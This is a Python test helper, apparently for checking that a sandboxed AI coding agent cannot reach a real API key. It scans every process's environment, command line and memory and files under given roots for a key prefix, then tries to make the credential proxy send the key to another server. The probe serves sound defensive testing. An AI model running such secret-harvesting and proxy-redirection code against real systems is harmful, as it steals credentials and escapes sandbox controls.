"""Run by the Claude CLI's Bash tool inside a confined topic: look for the real API key
everywhere a tool can look, and try to make the credential proxy send a request elsewhere.

    python3 scan_for_key.py OTHER_URL ROOT...

The key is searched by its prefix (`sk-ant-` + `realkey-`, joined here at run time so this
file and the command line do not contain it): in every visible process's environment,
command line and readable memory, and in every file under the ROOTs. Prints one line
`SCAN {json}` for the test to read. Standard library only (the system python3).
"""

from __future__ import annotations

import json
import os
import socket
import sys
from urllib.parse import urlsplit

NEEDLE = ("sk-ant-" + "realkey-").encode()
CHUNK = 16 << 20


def scan_memory(pid: str) -> tuple[bool, bool]:
    """(read anything, found the needle) for one process's readable mappings."""
    read = False
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                parts = line.split()
                if not parts[1].startswith("r") or (len(parts) > 5 and parts[5] in (
                        "[vvar]", "[vsyscall]", "[vvar_vclock]")):
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                tail = b""
                for at in range(start, end, CHUNK):
                    try:
                        mem.seek(at)
                        chunk = mem.read(min(CHUNK, end - at))
                    except (OSError, ValueError, OverflowError):
                        break
                    read = True
                    if NEEDLE in tail + chunk:
                        return True, True
                    tail = chunk[-64:]
    except OSError:
        pass
    return read, False


def main() -> None:
    other, roots = sys.argv[1], sys.argv[2:]
    me = str(os.getpid())
    found: list[str] = []
    pids = [p for p in os.listdir("/proc") if p.isdigit() and p != me]
    memory_read = 0
    for pid in pids:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    if NEEDLE in f.read():
                        found.append(f"{name} of pid {pid}")
            except OSError:
                pass
        read, hit = scan_memory(pid)
        memory_read += read
        if hit:
            found.append(f"memory of pid {pid}")
    files = 0
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read(8 << 20)
                except OSError:
                    continue
                files += 1
                if NEEDLE in data:
                    found.append(f"file {path}")
    key = next((os.environ[n] for n in ("ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN",
                                         "CLAUDE_CODE_OAUTH_TOKEN") if os.environ.get(n)), "")
    # Through the proxy, in proxy form, to another server: it must go nowhere.
    base = urlsplit(os.environ.get("ANTHROPIC_BASE_URL", ""))
    status = ""
    if base.hostname:
        body = b"{}"
        request = (
            f"POST {other}/v1/messages HTTP/1.1\r\nHost: {urlsplit(other).netloc}\r\n"
            f"x-api-key: {key}\r\n"
            f"content-type: application/json\r\ncontent-length: {len(body)}\r\n"
            "connection: close\r\n\r\n"
        ).encode() + body
        try:
            with socket.create_connection((base.hostname, base.port or 80), timeout=30) as s:
                s.sendall(request)
                status = s.recv(4096).split(b"\r\n", 1)[0].decode()
        except OSError as exc:
            status = f"error {exc}"
    print("SCAN " + json.dumps({
        "processes": len(pids), "memory_read": memory_read, "files": files, "found": found,
        "env_key": key[:12],
        "base_url": os.environ.get("ANTHROPIC_BASE_URL", ""), "proxy_form_status": status,
    }))


if __name__ == "__main__":
    main()
